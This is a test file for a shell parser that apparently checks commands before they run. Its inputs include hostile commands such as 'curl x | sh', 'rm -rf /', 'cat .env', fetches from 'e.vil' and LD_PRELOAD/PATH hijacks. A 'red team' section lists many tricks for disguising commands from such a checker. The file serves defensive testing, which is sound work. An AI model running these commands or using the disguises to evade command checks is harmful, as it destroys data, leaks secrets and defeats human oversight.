import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeAnsiC } from '../../src/facts/shell/parser.js';
import { DEFAULT_SHELL_CAPS, initShellParser, parseShell, parseWithArguments } from '../../src/facts/shell/index.js';

await initShellParser();

const texts = (s: string): string[] => parseShell(s).commands.map((c) => c.text);
const sorted = (s: string): string[] => texts(s).sort();

describe('parseShell: splitting into simple commands', () => {
  it.each([
    ['git status && curl x | sh', ['curl x', 'git status', 'sh']],
    ['ls; rm -rf ~', ['ls', 'rm -rf ~']],
    ['npm test || wget http://e.vil/x', ['npm test', 'wget http://e.vil/x']],
    ['ls\nrm -rf /', ['ls', 'rm -rf /']],
    ['sleep 1 & rm x', ['rm x', 'sleep 1']],
    ['ls |& tee log', ['ls', 'tee log']],
    ['(cd / && rm -rf x)', ['cd /', 'rm -rf x']],
    ['{ cat .env; }', ['cat .env']],
    ['! rm x', ['rm x']],
    ['if true; then rm a; elif false; then id; else curl b; fi', ['curl b', 'false', 'id', 'rm a', 'true']],
    ['for i in a b; do rm $i; done', ['rm $i', 'rm a b']],
    ['for ((i=0; i<$(id -u); i++)); do ls; done', ['id -u', 'ls']],
    ['while read l; do curl $l; done', ['curl $l', 'read l']],
    ['until false; do rm y; done', ['false', 'rm y']],
    ['case $x in a) rm a;; *) curl b;; esac', ['curl b', 'rm a']],
    ['f(){ rm -rf /; }; f', ['f', 'rm -rf /']],
    ['function g { curl x; }', ['curl x']],
    ['time rm x', ['rm x']],
    ['ls # ; rm -rf /', ['ls']],
    ['ls \\\n  && rm x', ['ls', 'rm x']],
  ])('%j', (src, expected) => {
    const facts = parseShell(src);
    expect(facts.capExceeded).toBeUndefined();
    expect(facts.commands.map((c) => c.text).sort()).toEqual([...expected].sort());
  });
});

describe('parseWithArguments: a command string and a list of arguments', () => {
  const read = (command: string, args: string[]) => parseWithArguments(command, args).commands.map((c) => c.words);
  it('reads the arguments as words and as a joined line, each command once', () => {
    expect(read('cat', ['a b', "it's"])).toEqual([['cat', 'a b', "it's"]]);
    expect(parseWithArguments('cat', ["it's"]).unverifiable).toMatch(/syntax/); // joined, the quote is unclosed
    expect(read('ls', ['&&', 'rm', 'x'])).toEqual([['ls', '&&', 'rm', 'x'], ['ls'], ['rm', 'x']]);
    expect(read('git', ['log', '-1'])).toEqual([['git', 'log', '-1']]);
    expect(read('ls', [])).toEqual([['ls']]);
  });
});

describe('parseShell: substitutions are commands too', () => {
  it.each([
    ['echo $(whoami)', ['echo $(whoami)', 'whoami']],
    ['echo "a $(id) b"', ['echo a $(id) b', 'id']],
    ['echo `uname -a`', ['echo `uname -a`', 'uname -a']],
    ['diff <(cat .env) >(tee x)', ['cat .env', 'diff <(cat .env) >(tee x)', 'tee x']],
    ['echo $((1 + $(id -u)))', ['echo $((1 + $(id -u)))', 'id -u']],
    ['echo ${x:-$(id)}', ['echo ${x:-$(id)}', 'id']],
    ['echo ${x:-`id`}', ['echo ${x:-`id`}', 'id']],
    ['x=$(curl e.vil) ls', ['curl e.vil', 'ls']],
    ['a=1; b=$(id)', ['id']],
    ['a=(x $(id))', ['id']],
    ['export A=$(curl x)', ['curl x', 'export A=$(curl x)']],
    ['echo > "$(rm x)"', ['echo', 'rm x']],
    ['[[ -f $(rm x) ]]', ['rm x']],
    ['x=$(( $(id -u) + 1 ))', ['id -u']],
    ['cat <<EOF\n$(rm -rf /)\nEOF', ['cat', 'rm -rf /']],
    ['cat <<-E\n\t`id`\n\tE', ['cat', 'id']],
    ['cat <<< "$(id)"', ['cat', 'id']],
    ['echo a > >(tee x)', ['echo a', 'tee x']],
  ])('%j', (src, expected) => {
    expect(sorted(src)).toEqual([...expected].sort());
  });

  it('keeps a quoted here-doc body as data', () => {
    expect(texts("cat <<'EOF'\n$(rm -rf /)\nEOF")).toEqual(['cat']);
    expect(texts('cat <<"EOF"\n`rm`\nEOF')).toEqual(['cat']);
    expect(texts('cat <<\\EOF\n$(rm)\nEOF')).toEqual(['cat']);
  });
});

describe('parseShell: assignments and wrappers', () => {
  it.each([
    ['FOO=1 rm -rf /', 'rm -rf /'],
    ['GH_TOKEN=x gh pr list', 'gh pr list'],
    ['env -i rm -rf /', 'rm -rf /'],
    ['env -u HOME A=1 B=2 rm x', 'rm x'],
    ['env - rm x', 'rm x'],
    ['sudo rm -rf /', 'rm -rf /'],
    // npm's built-in `env` script runs its arguments
    ['npm run env -- nc host 443', 'nc host 443'],
    ['npm --silent run-script env rm x', 'rm x'],
    ['sudo -u root -g wheel rm x', 'rm x'],
    ['sudo -uroot -- rm x', 'rm x'],
    ['sudo --user=root rm x', 'rm x'],
    ['doas -u root rm x', 'rm x'],
    ['nice -n 5 rm x', 'rm x'],
    ['nice -n5 rm x', 'rm x'],
    ['nohup rm x', 'rm x'],
    ['timeout 5 rm x', 'rm x'],
    ['timeout -s KILL 5 rm x', 'rm x'],
    ['timeout --signal=KILL -k 2 5s rm x', 'rm x'],
    ['command rm x', 'rm x'],
    ['builtin cd /', 'cd /'],
    ['exec rm x', 'exec rm x'.slice(5)],
    ['xargs rm', 'rm'],
    ['xargs -0 -n 1 -I{} rm {}', 'rm {}'],
    ['xargs -i{} rm {}', 'rm {}'],
    ['stdbuf -oL rm x', 'rm x'],
    ['stdbuf -o L rm x', 'rm x'],
    ['ionice -c 3 rm x', 'rm x'],
    ['setsid rm x', 'rm x'],
    ['chroot /mnt rm x', 'rm x'],
    ['busybox rm x', 'rm x'],
    ['/usr/bin/time -f %e rm x', 'rm x'],
    ['sudo nice -n 5 timeout 5 nohup env A=1 rm -rf /', 'rm -rf /'],
    // env puts any word with a `=` in the environment, not only shell names; sudo too.
    ['env x.y=1 rm x', 'rm x'],
    ["env 'a-b=1' =c rm x", 'rm x'],
    ['env A=1 -x=2 rm x', 'rm x'],
    ['sudo FOO=1 rm x', 'rm x'],
    ['sudo -u root A=1 B.c=2 rm x', 'rm x'],
  ])('%j → %j', (src, expected) => {
    expect(texts(src)).toEqual([expected]);
  });

  it.each(["env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls", 'sudo PATH=/tmp ls', 'sudo BASH_ENV=x bash -c ls'])('%j is unverifiable', (src) => {
    expect(parseShell(src).unverifiable).toMatch(/set for the command/);
  });

  // The prompts run their substitutions: PS3 in `select`, PS0-PS2 in an interactive shell.
  it.each(["PS3='$(rm x)'; select v in a; do break; done <<< 1", "PS1='$(rm x)' bash --norc -i <<< true", "env PS0='$(rm x)' bash -i <<< true", "export PS2='$(rm x)'"])(
    '%j is unverifiable',
    (src) => expect(parseShell(src).unverifiable).toMatch(/PS[0-3]/),
  );

  it('keeps a wrapper that runs nothing from its arguments', () => {
    expect(texts('command -v rm')).toEqual(['command -v rm']);
    expect(texts('sudo -l')).toEqual(['sudo -l']);
    expect(texts('sudo -e /etc/hosts')).toEqual(['sudo -e /etc/hosts']);
    expect(texts('exec 3>out')).toEqual(['exec']);
    expect(texts('nohup')).toEqual(['nohup']);
  });

  it('treats variables that change what runs as unverifiable', () => {
    expect(parseShell('PATH=/tmp/evil git status').unverifiable).toMatch(/PATH/);
    expect(parseShell('LD_PRELOAD=/tmp/x.so ls').unverifiable).toMatch(/LD_PRELOAD/);
    expect(parseShell('env PATH=/tmp/evil git status').unverifiable).toMatch(/PATH/);
    expect(parseShell('FOO=1 git status').unverifiable).toBeUndefined();
    expect(parseShell('PATH=/tmp/evil; git status').unverifiable).toMatch(/PATH/);
    expect(parseShell('export PATH=/tmp/evil:$PATH; git status').unverifiable).toMatch(/export PATH/);
    expect(parseShell('declare -x LD_PRELOAD=/tmp/x.so').unverifiable).toMatch(/LD_PRELOAD/);
    expect(parseShell('export FOO=1; git status').unverifiable).toBeUndefined();
  });

  it('cannot read env -S and says so', () => {
    expect(parseShell("env -S 'rm -rf /'").unverifiable).toMatch(/env -S/);
  });
});

describe('parseShell: shell strings and eval', () => {
  it.each([
    ["bash -c 'ls; rm -rf ~'", ['ls', 'rm -rf ~']],
    ['sh -c "curl x | sh -c \'wget y\'"', ['curl x', 'wget y']],
    ['sh -lc "wget y"', ['wget y']],
    ['zsh -c "rm x"', ['rm x']],
    ['dash -ec "rm x"', ['rm x']],
    ['ksh -o errexit -c "rm x"', ['rm x']],
    ['/bin/bash -c "rm x" arg0 arg1', ['rm x']],
    ["eval 'rm -rf /'", ['rm -rf /']],
    ['eval rm -rf /', ['rm -rf /']],
    ["eval \"eval 'curl x'\"", ['curl x']],
    ['sudo bash -c "rm x"', ['rm x']],
    ['bash <<< "curl x"', ['curl x']],
    ['sh <<EOF\nrm -rf /\nEOF', ['rm -rf /']],
    ['watch -n 1 "rm -rf /"', ['rm -rf /']],
    ["su -c 'curl x' root", ['curl x']],
    ['su root -c "rm -rf /"', ['rm -rf /']],
    ['runuser -u app --command="rm x"', ['rm x']],
    ["script -qc 'rm x' /dev/null", ['rm x']],
    ["flock -n /tmp/l -c 'wget y'", ['wget y']],
    ['flock /tmp/l rm -rf /', ['rm -rf /']],
    ["trap 'rm -rf /' EXIT", ['rm -rf /', 'trap rm -rf / EXIT']],
    ['trap - INT', ['trap - INT']],
    ['source /dev/stdin <<< "rm -rf /"', ['rm -rf /', 'source /dev/stdin']],
    ['bash /dev/stdin <<< "curl x"', ['curl x']],
    ["bash <<'EOF'\nrm -rf /\nEOF", ['rm -rf /']],
    ['watch -x rm x', ['rm x']],
    ['find . -name "*.tmp" -exec rm {} \\;', ['find . -name *.tmp -exec rm {} ;', 'rm {} .']],
    ['find . -execdir sh -c "curl x" \\;', ['curl x', 'find . -execdir sh -c curl x ;']],
  ])('%j', (src, expected) => {
    const facts = parseShell(src);
    expect(facts.unverifiable).toBeUndefined();
    expect(facts.commands.map((c) => c.text).sort()).toEqual([...expected].sort());
  });

  it.each([
    ['bash -c "$x"', /not a literal/],
    ['eval "$x"', /eval/],
    ['eval $(curl x)', /eval/],
    ['curl x | sh', /standard input/],
    ['bash', /standard input/],
    ['bash -c', /without a command string/],
    ['sh -c "echo ("', /syntax error/],
    ["alias ls='rm -rf /'; ls", /alias/],
    ['hash -p /bin/rm ls; ls', /hash -p/],
    ["declare -a 'a=($(id))'", /declare/],
    ['trap "$X" INT', /trap/],
    ['su -c "$X"', /not a literal/],
    ['. /dev/stdin', /standard input/],
  ])('%j is unverifiable', (src, reason) => {
    expect(parseShell(src).unverifiable).toMatch(reason);
  });

  it('keeps `bash script.sh` as an ordinary command', () => {
    const facts = parseShell('bash ./deploy.sh prod');
    expect(facts.unverifiable).toBeUndefined();
    expect(texts('bash ./deploy.sh prod')).toEqual(['bash ./deploy.sh prod']);
  });
});

describe('parseShell: command word disguises', () => {
  it.each([
    ['/bin/rm -rf /', 'rm -rf /'],
    ['\\rm -rf /', 'rm -rf /'],
    ["'rm' -rf /", 'rm -rf /'],
    ['"rm" -rf /', 'rm -rf /'],
    ['r""m -rf /', 'rm -rf /'],
    ["r''m -rf /", 'rm -rf /'],
    ["$'\\x72m' -rf /", 'rm -rf /'],
    ["$'\\162m' -rf /", 'rm -rf /'],
    ["$'r\\u006d' -rf /", 'rm -rf /'],
    ['r\\\nm -rf /', 'rm -rf /'],
    ['rm "" -rf /', 'rm -rf /'],
    // bash brace-expands the command word too
    ['{rm,-rf,/}', 'rm -rf /'],
  ])('%j → %j', (src, expected) => {
    const facts = parseShell(src);
    expect(facts.unverifiable).toBeUndefined();
    expect(facts.commands.map((c) => c.text)).toEqual([expected]);
  });

  it('keeps the path of a command word named by path', () => {
    const [cmd] = parseShell('/tmp/evil/git status').commands;
    expect(cmd?.words).toEqual(['git', 'status']);
    expect(cmd?.commandPath).toBe('/tmp/evil/git');
    expect(parseShell('git status').commands[0]?.commandPath).toBeUndefined();
  });

  it.each(['$CMD -rf /', '${X} x', '"$x"', '$(echo rm) -rf /', '`echo rm` x', 'r$x x', 'sudo $CMD', '/bin/r? x'])(
    '%j is unverifiable',
    (src) => {
      expect(parseShell(src).unverifiable).toBeDefined();
    },
  );

  it('still lists commands inside a non-literal command word', () => {
    const facts = parseShell('$(curl x) -rf /');
    expect(facts.unverifiable).toMatch(/not a literal/);
    expect(facts.commands.map((c) => c.text)).toContain('curl x');
  });
});

describe('parseShell: redirections', () => {
  it('lists file targets, not descriptor duplications', () => {
    const [cmd] = parseShell('cat < .env > ~/.ssh/x 2>> log 2>&1 >&2 3<&- &> all').commands;
    expect(cmd?.redirects).toEqual(['.env', '~/.ssh/x', 'log', 'all']);
  });

  it('counts `>& file` as a file', () => {
    expect(parseShell('ls >& out.txt').commands[0]?.redirects).toEqual(['out.txt']);
  });

  it('removes quotes from targets and keeps here-docs out', () => {
    expect(parseShell('cat <<EOF > "a b"\nx\nEOF').commands[0]?.redirects).toEqual(['a b']);
    expect(parseShell('cat <<< .env').commands[0]?.redirects).toEqual([]);
  });

  it('gives compound redirections to every command inside', () => {
    const facts = parseShell('while read l; do echo $l; done < .env');
    expect(facts.commands.map((c) => c.redirects)).toEqual([['.env'], ['.env']]);
    expect(parseShell('{ ls; pwd; } > out').commands.every((c) => c.redirects.includes('out'))).toBe(true);
  });

  it('reports a bare redirection as a command with no words', () => {
    expect(parseShell('> ~/.ssh/authorized_keys').commands).toEqual([
      { words: [], text: '', redirects: ['~/.ssh/authorized_keys'], writtenRedirects: ['~/.ssh/authorized_keys'] },
    ]);
  });

  it('says $HOME as ~ and flags other non-literal targets', () => {
    expect(parseShell('echo x > $HOME/.bashrc').commands[0]?.redirects).toEqual(['~/.bashrc']);
    expect(parseShell('echo x > $HOME/.bashrc').unverifiable).toBeUndefined();
    expect(parseShell('echo x > "$OUT"').unverifiable).toMatch(/redirection/);
  });
});

describe('parseShell: words and text', () => {
  it('removes quotes and joins words with single spaces', () => {
    const [cmd] = parseShell(`git   commit  -m "two words"   'x'`).commands;
    expect(cmd?.words).toEqual(['git', 'commit', '-m', 'two words', 'x']);
    expect(cmd?.text).toBe('git commit -m two words x');
  });

  it('keeps expansions in arguments as written', () => {
    expect(texts('echo "$HOME" ${USER} $1')).toEqual(['echo ~ ${USER} $1']);
    expect(parseShell('echo $USER').unverifiable).toBeUndefined();
  });

  it('handles backslashes like bash', () => {
    expect(parseShell('echo a\\ b "c\\"d" "e\\q"').commands[0]?.words).toEqual(['echo', 'a b', 'c"d', 'e\\q']);
    // A backslash at the very end stays (bash reads `x\` as the word `x\`), also inside eval.
    expect(parseShell('ls x\\').commands[0]?.words).toEqual(['ls', 'x\\']);
    expect(parseShell("eval 'ls y\\'").commands[0]?.words).toEqual(['ls', 'y\\']);
  });

  it('keeps non-ASCII text intact', () => {
    expect(texts('echo "héllo $(printf ü)" ✓')).toEqual(['printf ü', 'echo héllo $(printf ü) ✓']);
    // In $'...' an unknown escape keeps the backslash and the whole character, as bash does.
    expect(parseShell("echo $'\\😀' $'\\é'").commands[0]?.words).toEqual(['echo', '\\😀', '\\é']);
  });
});

describe('parseShell: failures and caps', () => {
  it.each(['echo (', 'ls &&', 'echo "unterminated', 'if true; then ls', 'echo $(', ') rm', '{ls;}', 'cat <(ls'])(
    '%j is a syntax error',
    (src) => {
      const facts = parseShell(src);
      expect(facts.unverifiable).toMatch(/syntax error/);
    },
  );

  it('returns empty facts for an empty or blank string', () => {
    expect(parseShell('')).toEqual({ commands: [] });
    expect(parseShell('  \n # comment\n')).toEqual({ commands: [] });
  });

  it('caps length', () => {
    expect(parseShell('a'.repeat(DEFAULT_SHELL_CAPS.maxLength + 1)).capExceeded).toBe('length');
    expect(parseShell('ls', { ...DEFAULT_SHELL_CAPS, maxLength: 1 }).capExceeded).toBe('length');
  });

  it('caps commands, and still sees segment 60 below the cap', () => {
    expect(parseShell('ls;'.repeat(300)).capExceeded).toBe('commands');
    const sixty = parseShell('ls; '.repeat(59) + 'rm -rf /');
    expect(sixty.capExceeded).toBeUndefined();
    expect(sixty.commands.at(-1)?.text).toBe('rm -rf /');
  });

  it('caps depth', () => {
    expect(parseShell('$('.repeat(40) + 'ls' + ')'.repeat(40)).capExceeded).toBe('depth');
    expect(parseShell('('.repeat(2000) + 'ls' + ')'.repeat(2000)).capExceeded).toBe('depth');
    expect(parseShell('('.repeat(10) + 'ls' + ')'.repeat(10)).capExceeded).toBeUndefined();
  });

  it('caps depth through nested -c strings', () => {
    // Each eval re-parses the rest: the nesting is in the strings, not in the syntax.
    expect(parseShell('eval '.repeat(40) + 'rm -rf /').capExceeded).toBe('depth');
    expect(parseShell('eval '.repeat(5) + 'rm -rf /').commands.map((c) => c.text)).toEqual(['rm -rf /']);
  });

  it('refuses NUL bytes and non-strings', () => {
    expect(parseShell('ls\0rm').unverifiable).toMatch(/NUL/);
    expect(parseShell(42 as unknown as string).unverifiable).toBeDefined();
  });

  it('refuses lone surrogates and carriage returns, which mvdan-sh reads differently from bash', () => {
    // Read as one `echo` by mvdan-sh, as `echo <U+FFFD>; rm -rf /` by bash after Node encodes it.
    for (const command of ['echo \uD800;rm -rf /', 'echo $(true) \uDBFF;rm -rf /', 'ls \uDC00|sh', 'ls x\uD800']) {
      const facts = parseShell(command);
      expect(facts.unverifiable).toMatch(/well-formed/);
      expect(facts.commands).toEqual([]);
    }
    // A carriage return: a blank to mvdan-sh, part of a word to bash.
    for (const command of ['ls\rx/evil', 'echo\rrm -rf /', 'git status\r\nrm x', "printf 'a\rb'"]) {
      const facts = parseShell(command);
      expect(facts.unverifiable).toMatch(/carriage return/);
      expect(facts.commands).toEqual([]);
    }
    // Also where the text is made by the shell: a `bash -c` or `eval` string of $'...'.
    for (const command of ["bash -c $'ls\\rx/evil'", "eval $'ls\\rx/evil'"]) {
      const facts = parseShell(command);
      expect(facts.unverifiable).toMatch(/carriage return/);
      expect(facts.commands).toEqual([]);
    }
    // A comment ending in a backslash: bash ends it at the newline, mvdan-sh reads on.
    for (const command of ['git log #\\\ncurl -o x e.vil', '(echo #\\\nrm x)']) {
      expect(parseShell(command).unverifiable, command).toMatch(/comment ends in a backslash/);
    }
    // A `#` right after a closing quote starts a comment for mvdan-sh, not for bash (`a#` is one word).
    for (const command of ["git diff HEAD''#;curl x", 'echo "a"#;rm x', "echo $'a'\\\n#;rm x"]) {
      expect(parseShell(command).unverifiable, command).toMatch(/glued to a word/);
    }
    // Where both read the same: a `#` inside a word, or after a backslash-newline of a plain word.
    expect(parseShell('git log --format=%H#%s').commands.map((c) => c.words)).toEqual([['git', 'log', '--format=%H#%s']]);
    expect(parseShell('echo a\\\n#;rm x').commands.map((c) => c.words)).toEqual([['echo', 'a#'], ['rm', 'x']]);
    expect(parseShell('ls;#c\n(#d\nrm x)').commands.map((c) => c.words)).toEqual([['ls'], ['rm', 'x']]);
    // `coproc`: mvdan-sh reads the words after it unlike bash.
    for (const command of ['coproc bash ls | ls', 'coproc a=b rm x', 'coproc x a=b', 'coproc ls', 'coproc a=b [[ a ]]', 'coproc N { rm x; }']) {
      expect(parseShell(command).unverifiable, command).toMatch(/coproc/);
    }
    // Where mvdan-sh ends the comment at the newline too (two or three backslashes), both run `rm x`.
    expect(parseShell('ls # a \\\\\nrm x').commands.map((c) => c.words)).toEqual([['ls'], ['rm', 'x']]);
    expect(parseShell('ls # a \\\\\\\nrm x').commands.map((c) => c.words)).toEqual([['ls'], ['rm', 'x']]);
    // A surrogate pair is a character like any other.
    expect(parseShell('echo \uD83D\uDE00').commands.map((c) => c.words)).toEqual([['echo', '\uD83D\uDE00']]);
  });
});

describe("$'...' is decoded as bash decodes it", () => {
  it.each([
    ["$'\\x{63}url' e.vil", 'curl e.vil'],
    ["$'cu\\0zz'rl e.vil", 'curl e.vil'],
    ["$'cu\\x00'rl e.vil", 'curl e.vil'],
    ["$'\\x{12e}env'", '.env'],
  ])('%j is %j', (src, expected) => expect(parseShell(src).commands[0]!.text).toBe(expected));
  it('property: the bytes bash makes of random escapes (ASCII results)', () => {
    const piece = fc.constantFrom('a', '.', 'e', '{', '}', '\\x', '\\x2e', '\\x{2e}', '\\x{12e', '\\x{', '\\x{}', '\\xg', '\\056', '\\56', '\\0', '\\x00', '\\u002e', '\\u', '\\c', '\\cA', '\\n', '\\q', '\\\\', "\\'", '\\"');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const body = pieces.join('');
        const bash = execFileSync('bash', ['--norc', '--noprofile', '-c', `printf %s $'${body}' | od -An -tx1`], { encoding: 'utf8' }).replace(/\s+/g, '');
        if ((bash.match(/../g) ?? []).some((b) => parseInt(b, 16) >= 0x80)) return; // a byte that is no UTF-8 text alone
        expect(Buffer.from(decodeAnsiC(body), 'utf8').toString('hex')).toBe(bash);
      }),
      { numRuns: 200 },
    );
  });
});

describe('parseShell: red team 8c', () => {
  it.each([
    ["a['$(id)']=1", /subscript/],
    ["declare -A m=(['k']=v)", /subscript/],
    ["let 'x[$(id)]'", /subscript/],
    ['[[ ${BASH_CMDS[ls]:=./x} ]]; ls', /BASH_CMDS/],
    ['[[ -n ${CDPATH:=..} ]] && cd x', /CDPATH/],
    ['echo $(cat <<EOF\nEOF)\nid\nEOF\n)', /here-doc/],
    ["bash -k -c 'git diff GIT_EXTERNAL_DIFF=id'", /-k/],
    ["bash -o keyword -c 'ls PATH=src'", /keyword/],
    ['set -k; ls LD_PRELOAD=./x.so', /set -k/],
    ['set -o keyword; ls', /keyword/],
    ['shopt -os keyword; ls', /keyword/],
    ["bash <<'EOF'\nshopt -os history histexpand\necho a\n!!\nEOF", /history/],
    ["bash -i <<'EOF'\necho a\n!!\nEOF", /history/],
    ["zsh -i <<< 'echo !!'", /history/],
    ["bash --rcfile ./x -i <<< ''", /rcfile/],
    ["bash --init-file=.env -i <<< ''", /init-file/],
    ["bash -O cdable_vars -c 'cd d'", /cdable_vars/],
    ["sh -c 'echo $'\\''\\'\\'';id;echo \\'\\'''\\'' #'\\'''", /POSIX/],
    ["echo $'\\';id;echo \\'' #'", /POSIX/],
    ["cat $'/../x'", /POSIX/],
    ['$"ls" -la', /translates/],
    ['[[ a > .env ]]', /POSIX/],
    ["sh -c '[[ x || sh ]]'", /POSIX/],
    ["bash <<'EOF'\ncat\necho id\nEOF", /standard input/],
    ["bash <<< $'read x\\nid'", /standard input/],
    ['x=$(ls); arr=([$x]=1)', /arithmetic/],
    ["functions[ls]='id'; ls", /functions/],
    ['commands+=(ls ./x); ls', /commands/],
    ['options[caseglob]=off; cat .EN?', /options/],
    ['set -A path src; ls', /set -A/],
    ["read 'BASH_CMDS[ls]' <<< ./x; ls", /BASH_CMDS/],
    ["bash -c '((BASH_CMDS[ls]=1)); ls'", /BASH_CMDS/],
    ["bash -c 'let BASH_CMDS[ls]+=1; ls'", /BASH_CMDS/],
    ['zmodload zsh/mapfile; echo ${mapfile[.env]}', /zmodload|mapfile/],
    ['declare -l x; x=.ENV; cat $x', /attribute/],
    ['typeset -L4 x; x=.envrc.example; cat $x', /attribute/],
  ])('%j is unverifiable', (src, reason) => {
    expect(parseShell(src).unverifiable).toMatch(reason);
  });

  it.each([
    ['arr=([0]=a [1]=b); echo hi', ['echo hi']],
    ["let 'n=1+2'; [[ 3 -eq 3 ]] && echo y", ['echo y']],
    ["bash <<'EOF'\necho hi\nls\nEOF", ['echo hi', 'ls']],
    ['bash <<< "cat x"', ['cat x']],
    ["echo $'a\\tb'; [[ -f a && -n b ]] && echo y", ['echo a\tb', 'echo y']],
    ["bash -c 'echo $'\\''a'\\'''", ['echo a']],
    ['declare -l x=ABC; echo $x', ['declare -l x=ABC', 'echo $x', 'echo ABC abc aBC']],
    ['set -euo pipefail; ls', ['set -euo pipefail', 'ls']],
    // outside `$(…)` bash ends a here-doc only at its delimiter alone
    ['cat <<E\nError (foo)\nEOF)\nE', ['cat']],
  ])('%j stays readable', (src, expected) => {
    const facts = parseShell(src);
    expect(facts.unverifiable).toBeUndefined();
    expect(facts.commands.map((c) => c.text).sort()).toEqual([...expected].sort());
  });

  it('reads zsh precommand modifiers and `emulate -c` as what they run', () => {
    expect(parseShell('noglob curl x').commands.map((c) => c.text)).toContain('curl x');
    expect(parseShell('repeat 3 curl x').commands.map((c) => c.text)).toContain('curl x');
    expect(parseShell("emulate sh -c 'curl x'").commands.map((c) => c.text)).toContain('curl x');
  });

  it('reads `time -o FILE` as GNU time under a POSIX reading (the file is written)', () => {
    expect(parseShell('time -o../x ls').commands.some((c) => c.words[0] === 'ls' && c.wrapperFiles?.includes('../x'))).toBe(true);
    expect(parseShell('echo x >!out').commands[0]!.redirects).toEqual(['!out', 'out']);
  });
});

// Red team 10a, checked in the real shells.
describe('stdin scripts and `$[…]`, against bash and dash', () => {
  // A script bash reads from its input, whose first line reads 7 bytes of that input through
  // a redirection that is the input itself: `echo #x` is eaten and bash runs `echo RAN`.
  it.each(['<&0', '< /dev/stdin', '</dev/fd/0', '</proc/self/fd/0', '0<&0'])('`read -n 7 x %s` still reads the script', (redirect) => {
    const script = `read -n 7 x ${redirect}\necho #x echo RAN\n`;
    // Through a pipe (node's own stdin is a socket, which /dev/stdin cannot open).
    expect(execFileSync('sh', ['-c', 'printf %s "$1" | bash', 'sh', script], { encoding: 'utf8' })).toContain('RAN');
    expect(parseShell(`bash <<'EOF'\n${script}EOF`).unverifiable).toMatch(/standard input/);
  });

  it.each(['cat package.json', 'grep -rn TODO .', 'wc -l app.ts', 'head -n 3 README.md', 'grep -e TODO -r src'])('`%s` names its files: it does not read the script', (command) => {
    expect(parseShell(`sh <<'EOF'\n${command}\necho done\nEOF`).unverifiable).toBeUndefined();
  });

  it.each(['cat', 'cat -', 'cat /dev/stdin', 'grep TODO', 'grep -A 1 TODO', 'grep -f - x', 'head -c 7 $f', 'cat *', 'wc --files0-from=- '])('`%s` may read the script', (command) => {
    expect(parseShell(`sh <<'EOF'\n${command}\necho done\nEOF`).unverifiable).toMatch(/standard input/);
  });

  it('dash reads `$[ 1 | cat ]` as a pipe (so `$[…]` is refused under the POSIX reading, kept inside bash -c)', () => {
    expect(execFileSync('dash', ['-c', 'echo $[ 1 | cat ] 2>&1 || true'], { encoding: 'utf8' })).not.toContain('$[');
    expect(parseShell('echo $[ 1 | id ]').unverifiable).toMatch(/old arithmetic/);
    expect(parseShell("sh -c 'cat $[ 0 - 1 < key ]'").unverifiable).toMatch(/old arithmetic/);
    expect(parseShell("bash -c 'echo $[ 1 + 2 ]'").unverifiable).toBeUndefined();
  });

  it('history turned on through words bash resolves (`se\\t -H`, `"set" -H`, `eval`) makes `!` unverifiable', () => {
    for (const line of ['se\\t -H -o history', '"set" -H -o history', "eval 'set -H -o history'", 'builtin set -H']) {
      expect(parseShell(`bash -s <<'EOF'\n${line}\necho .enx\ncat !-1:1:s/x/v/\nEOF`).unverifiable, line).toMatch(/history/);
    }
  });

  it('`[[ a < b ]]` to a POSIX shell reads the file b', () => {
    const facts = parseShell('[[ "$ver" < 2.0 ]] && echo old');
    expect(facts.unverifiable).toBeUndefined();
    expect(facts.commands.some((c) => c.redirects.includes('2.0'))).toBe(true);
    expect(parseShell('[[ a < b || id ]]').unverifiable).toBeDefined();
  });
});

describe('parseShell: wildcards the shell expands itself (SimpleCommand.shellGlobs, the dot rule)', () => {
  const globs = (s: string): (number[] | undefined)[] => parseShell(s).commands.map((c) => c.shellGlobs);
  it.each([
    ['ls src/*.ts', [[1]]],
    ['cat "src"/* b?.ts', [[1, 2]]],
    ['wc -l src/**/*.ts', [[2]]],
    ['cat .e* [.]env', [[1, 2]]], // marked: the rule itself leaves segments starting with `.` or `[` as they were
    ['cat src/\\*x*', [[1]]], // an escaped `*` is a literal `*` (the parser keeps no mark), which starts no dot file either
  ])('%s', (line, expected) => expect(globs(line)).toEqual(expected));
  it.each([
    "cat 'src/*'", // quoted: a program's pattern, or a file of that name
    'cat "*"*',
    'cat $x*', // a variable may start with a dot
    'cat ${x}*',
    'cat $(echo .)*',
    'cat src/*(D)', // a zsh qualifier or an extglob
    'cat a,*', // characters withoutTextWildcards reads
    'cat src/a.ts',
  ])('%s: none', (line) => expect(globs(line).every((g) => g === undefined)).toBe(true));
  it('marks a loop variable given alone in double quotes, not unquoted', () => {
    const wc = (s: string) => parseShell(s).commands.filter((c) => c.words[2] === 'src/*.ts').map((c) => c.shellGlobs);
    expect(wc('for f in src/*.ts; do wc -l "$f"; done')).toEqual([[2]]);
    expect(wc('for f in src/*.ts; do wc -l $f; done')).toEqual([undefined]);
  });
  it('marks none in text read again (`bash -c`, `zsh -c`, `eval`): that shell may read start-up files setting its options', () => {
    // (`eval cat src/*`, the wildcard unquoted, is unverifiable: the names become code.)
    for (const line of ["bash -c 'cat src/*'", "zsh -c 'cat src/*'", "eval 'cat src/*'", "sh -c 'ls src/*.ts'"]) {
      const inner = parseShell(line).commands.filter((c) => c.words[0] === 'cat' || c.words[0] === 'ls');
      expect(inner.length, line).toBeGreaterThan(0);
      for (const c of inner) expect(c.shellGlobs, line).toBeUndefined();
    }
  });
});
